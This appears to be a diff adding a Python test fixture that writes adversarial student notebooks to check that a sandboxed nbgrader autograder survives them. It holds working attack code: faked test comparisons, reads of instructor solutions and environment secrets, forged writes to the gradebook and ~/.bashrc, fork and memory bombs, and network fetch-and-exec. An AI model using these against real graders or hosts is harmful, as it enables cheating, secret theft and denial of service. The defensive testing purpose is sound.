@@ -1,0 +1,295 @@
+"""Adversarial submissions: at least one per attack in the threat model (../shared/GRADING.md), on 01_setup.
+
+Each attack is a student notebook built from the release, as a cheater would submit it, with what it tries and
+what it deserves. `write_attacks(root, ...)` writes them under root/submitted/<student>/01_setup/; the meta-test
+course_tests/meta/test_adversarial.py grades them with the instructor's solutions in the same run and proves that
+each scores no more than it deserves (exactly what it deserves where the attack only costs the points it touches),
+that the grader survives every one, and that nothing outside the box was read or written.
+
+Most attacks would pay on plain `nbgrader autograde`: the liar and the shadowing modules rewrite what the hidden
+tests see, the reader execs the instructor's solutions, the network one fetches them (benchmarks/grading.py
+shows plain nbgrader's scores for the ones that are safe to run without a box). This folder is hidden from the box.
+"""
+from __future__ import annotations
+
+import copy
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from trailblaze import notebooks, paths
+
+ASSIGNMENT = "01_setup"
+
+
+@dataclass(frozen=True)
+class Attack:
+    student: str
+    threat: str                                        # the GRADING.md item it belongs to
+    how: str
+    base: str = "blank"                                # "blank" (the release) or "solutions"
+    cells: dict[str, str] = field(default_factory=dict)  # grade_id -> the source the attacker put there
+    costs: tuple[str, ...] | None = None               # None: deserves 0; else exactly the points minus these cells
+    extra_files: dict[str, str] = field(default_factory=dict)
+    tamper: str = ""                                   # a notebook-level change: see `tampered`
+
+
+LIAR = '''
+import builtins, math, torch, torch.testing
+torch.allclose = lambda *a, **k: True
+torch.equal = lambda *a, **k: True
+math.isclose = lambda *a, **k: True
+torch.testing.assert_close = lambda *a, **k: None
+builtins.isinstance = lambda *a: True
+try:
+    import course_tests.framework as framework  # the checks' helpers, in case they run here
+    framework.expect_close = framework.expect_tensor = framework.expect = lambda *a, **k: None
+    framework.fail = lambda *a, **k: None
+except Exception:
+    pass
+
+
+class Agreeable(torch.Tensor):
+    def __eq__(self, other):
+        return True
+
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        return True
+
+
+class Yes(int):
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    __hash__ = int.__hash__
+
+
+def count_parameters(model, trainable_only=False):
+    return Yes(0)
+
+
+def greedy_next_token(logits):
+    return torch.zeros(logits.shape[0], dtype=torch.long).as_subclass(Agreeable)
+
+
+def apply_temperature(logits, temperature):
+    return logits.as_subclass(Agreeable)
+'''
+
+READER = '''
+import glob, json, os, sqlite3
+ROOT = {root!r}
+found = []
+for pattern in ["source/01_setup/*.ipynb", "submitted/*/01_setup/*.ipynb", "autograded/*/01_setup/*.ipynb",
+                "feedback/*/01_setup/*", "course_tests/checks/*.py", "reports/results/01_setup/*.json"]:
+    for path in glob.glob(os.path.join(ROOT, pattern)):
+        try:
+            nb = json.load(open(path))
+        except Exception:
+            found.append(path)
+            continue
+        for cell in nb.get("cells", []):
+            source = "".join(cell.get("source", ""))
+            if cell.get("cell_type") == "code" and "raise NotImplementedError" not in source:
+                try:
+                    exec(source, globals())  # the instructor's or a classmate's working code
+                except Exception:
+                    pass
+try:
+    db = sqlite3.connect(os.path.join(ROOT, "gradebook.db"))
+    for (source,) in db.execute("select source from source_cell"):
+        if "raise NotImplementedError" not in source:
+            try:
+                exec(source, globals())
+            except Exception:
+                pass
+except Exception:
+    pass
+secrets = {{k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k or "PASS" in k}}
+'''
+
+WRITER = '''
+import os, pathlib
+ROOT = pathlib.Path({root!r})
+forged = '{{"key": "x", "grades": {{}}, "seconds": 0}}'
+targets = [ROOT / "gradebook.db", ROOT / "reports" / "results" / "01_setup" / "solutions.json",
+           ROOT / "reports" / "grades.csv", ROOT / "submitted" / "solutions" / "01_setup" / "setup.ipynb",
+           ROOT / "source" / "01_setup" / "pwned.txt", ROOT / "course_tests" / "pwned.py",
+           pathlib.Path("/tmp/trailblaze-pwned"), pathlib.Path.home() / ".bashrc"]
+for target in targets:
+    try:
+        with open(target, "a") as f:
+            f.write(forged)
+    except Exception:
+        pass
+'''
+
+EXITS = '''
+def count_parameters(model, trainable_only=False):
+    import os
+    os._exit(0)
+'''
+
+EXITS_ON_LOAD = '''
+def greedy_next_token(logits):
+    return logits.argmax(dim=-1)
+
+import os
+os._exit(0)
+'''
+
+SIGINT_PROOF = '''
+def count_parameters(model, trainable_only=False):
+    import signal, time
+    signal.signal(signal.SIGINT, signal.SIG_IGN)
+    signal.signal(signal.SIGTERM, signal.SIG_IGN)
+    while True:
+        try:
+            time.sleep(0.01)
+        except BaseException:
+            pass
+'''
+
+MEMORY_BOMB = '''
+def count_parameters(model, trainable_only=False):
+    hoard = []
+    while True:
+        hoard.append(bytes(1 << 28))
+'''
+
+FORK_BOMB = '''
+def count_parameters(model, trainable_only=False):
+    import os
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
+'''
+
+OUTPUT_FLOOD = '''
+def count_parameters(model, trainable_only=False):
+    line = "spam " * 200_000
+    while True:
+        print(line, flush=True)
+'''
+
+HUGE_FILE = '''
+def count_parameters(model, trainable_only=False):
+    block = b"\\0" * (1 << 24)
+    with open("huge.bin", "wb") as f:
+        while True:
+            f.write(block)
+'''
+
+NETWORK = '''
+import socket
+def _fetch(host, port):
+    try:
+        with socket.create_connection((host, port), timeout=3) as s:
+            return s.recv(1 << 20).decode()
+    except OSError:
+        return ""
+for host, port in [("127.0.0.1", {port}), ("localhost", {port}), ("1.1.1.1", 53), ("pypi.org", 443)]:
+    code = _fetch(host, port)
+    if code:
+        try:
+            exec(code, globals())  # the solutions, sent by an accomplice
+        except Exception:
+            pass
+'''
+
+SHADOWS = {
+    "torch.py": "raise SystemExit('shadowed torch')\n",
+    "numpy.py": "raise SystemExit('shadowed numpy')\n",
+    "course_tests/__init__.py": "",
+    "course_tests/grading.py": "def grade_cell(*args, **kwargs):\n    print('PASS')\n",
+}
+
+ATTACKS = [
+    Attack("adv_lies_in_process", "1 lie inside the process",
+           "patches torch.allclose, math.isclose, isinstance and the checks' helpers; returns a Tensor subclass "
+           "that equals anything and an int that equals anything", cells={"count_parameters": LIAR}),
+    Attack("adv_reads_solutions", "2 read what they should not",
+           "execs the code of the source notebook, classmates' submissions and the gradebook; reads the checks, "
+           "results and secrets from the environment", cells={"count_parameters": READER}),
+    Attack("adv_writes_outside", "3 write what they should not",
+           "appends to the gradebook, results, grades.csv, a classmate's submission, source/, course_tests/, the "
+           "host's /tmp and $HOME", cells={"count_parameters": WRITER}),
+    Attack("adv_exits_in_a_function", "4 end early", "os._exit(0) inside count_parameters",
+           base="solutions", cells={"count_parameters": EXITS}, costs=("count_parameters_tests",)),
+    Attack("adv_exits_while_loading", "4 end early", "os._exit(0) at the top level of a cell: the notebook cannot "
+           "load, as in Jupyter", base="solutions", cells={"greedy_next_token": EXITS_ON_LOAD}),
+    Attack("adv_sigint_proof_loop", "4 end early or never", "ignores SIGINT and SIGTERM and loops forever",
+           base="solutions", cells={"count_parameters": SIGINT_PROOF}, costs=("count_parameters_tests",)),
+    Attack("adv_memory_bomb", "4 memory bomb", "allocates 256 MiB at a time, forever",
+           base="solutions", cells={"count_parameters": MEMORY_BOMB}, costs=("count_parameters_tests",)),
+    Attack("adv_fork_bomb", "4 fork bomb", "forks forever", base="solutions",
+           cells={"count_parameters": FORK_BOMB}, costs=("count_parameters_tests",)),
+    Attack("adv_output_flood", "4 output flood", "prints 1 MB lines forever", base="solutions",
+           cells={"count_parameters": OUTPUT_FLOOD}, costs=("count_parameters_tests",)),
+    Attack("adv_huge_file", "4 huge file", "writes a file forever", base="solutions",
+           cells={"count_parameters": HUGE_FILE}, costs=("count_parameters_tests",)),
+    Attack("adv_edits_locked_cells", "5 tamper with the notebook",
+           "rewrites every test cell to print PASS and return full points, raises their points to 100, empties the "
+           "visible tests", tamper="edit_tests"),
+    Attack("adv_deletes_test_cells", "5 tamper with the notebook",
+           "deletes every test and visible-test cell of a correct notebook: they are put back and graded",
+           base="solutions", tamper="delete_tests", costs=()),
+    Attack("adv_duplicates_grade_ids", "5 tamper with the notebook",
+           "copies every test cell three times, same grade_id, hoping to be paid for each copy", base="solutions",
+           tamper="duplicate_tests", costs=()),
+    Attack("adv_shadows_modules", "5 ship files beside the notebook",
+           "torch.py and numpy.py that exit, and a course_tests package whose grade_cell prints PASS",
+           extra_files=SHADOWS),
+    Attack("adv_phones_home", "6 phone home",
+           "connects to an accomplice on the grader's loopback, to 1.1.1.1 and to pypi.org, and execs what it gets",
+           cells={"count_parameters": NETWORK}),
+]
+
+
+def tampered(nb, how: str):
+    nb = copy.deepcopy(nb)
+    tests = [c for c in nb.cells if notebooks.kind(c) in ("test", "visible")]
+    if how == "edit_tests":
+        for cell in tests:
+            if notebooks.kind(cell) == "test":
+                cell.source = "print('PASS')\n100"
+                cell.metadata.nbgrader["points"] = 100
+            else:
+                cell.source = "pass"
+    elif how == "delete_tests":
+        nb.cells = [c for c in nb.cells if c not in tests]
+    elif how == "duplicate_tests":
+        cells = []
+        for cell in nb.cells:
+            cells += [cell] + ([copy.deepcopy(cell) for _ in range(3)] if notebooks.kind(cell) == "test" else [])
+        nb.cells = cells
+    return nb
+
+
+def write_attacks(root: Path, bases: dict, canary_port: int) -> list[Attack]:
+    """Write every attack's submission under root/submitted/. `bases`: "blank" and "solutions" notebooks of
+    ASSIGNMENT (as the pipeline's sample class builds them). `canary_port`: a port on the grader's loopback that
+    would answer the network attack."""
+    name = paths.source_notebook(ASSIGNMENT).name
+    for attack in ATTACKS:
+        nb = copy.deepcopy(bases[attack.base])
+        for grade_id, source in attack.cells.items():
+            notebooks.find_cell(nb, grade_id).source = source.format(root=str(root), port=canary_port)
+        if attack.tamper:
+            nb = tampered(nb, attack.tamper)
+        folder = root / "submitted" / attack.student / ASSIGNMENT
+        notebooks.write(nb, folder / name)
+        for relative, text in attack.extra_files.items():
+            (folder / relative).parent.mkdir(parents=True, exist_ok=True)
+            (folder / relative).write_text(text)
+    return ATTACKS
+
+
+def deserved(attack: Attack, points: dict[str, float]) -> float:
+    """The most `attack` may score, given grade_id -> points of ASSIGNMENT."""
+    return 0.0 if attack.costs is None else sum(p for g, p in points.items() if g not in attack.costs)
